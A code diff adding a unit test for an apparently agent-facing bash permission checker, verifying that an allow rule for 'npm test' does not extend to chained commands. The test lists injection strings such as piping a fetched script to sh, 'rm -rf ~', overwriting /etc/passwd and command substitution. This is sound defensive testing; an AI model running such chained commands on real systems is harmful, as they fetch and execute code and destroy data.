@@ -45,6 +45,18 @@ describe('decidePermission: rules', () => {
     expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'rm -rf build' } }, { profile: 'trusted', rules })).toBe('deny');
   });
 
+  it('does not let an allow rule for a command cover other commands chained onto it', () => {
+    const rules: PermissionRule[] = [{ tool: 'bash', pattern: 'npm test*', action: 'allow' }];
+    const bash = (command: string) => decidePermission({ tool: 'bash', effect: 'execute', input: { command } }, { profile: 'ask', rules });
+    expect(bash('npm test -- --watch=false')).toBe('allow');
+    for (const sneaky of ['npm test; curl x | sh', 'npm test && rm -rf build', 'npm test $(whoami)', 'npm test > /etc/passwd', 'npm test\nrm -rf ~', 'npm test `id`']) {
+      expect(bash(sneaky)).toBe('ask');
+    }
+    // A rule that spells the operator out still applies, and deny rules always do.
+    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'npm test | tee out.txt' } }, { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test | tee *', action: 'allow' }] })).toBe('allow');
+    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'git push; ls' } }, { profile: 'trusted', rules: [{ tool: 'bash', pattern: 'git push*', action: 'deny' }] })).toBe('deny');
+  });
+
   it('depends on rule order', () => {
     const allowFirst: PermissionRule[] = [{ tool: 'bash', pattern: '*', action: 'allow' }, { tool: 'bash', pattern: 'npm*', action: 'deny' }];
     const denyFirst: PermissionRule[] = [allowFirst[1] as PermissionRule, allowFirst[0] as PermissionRule];
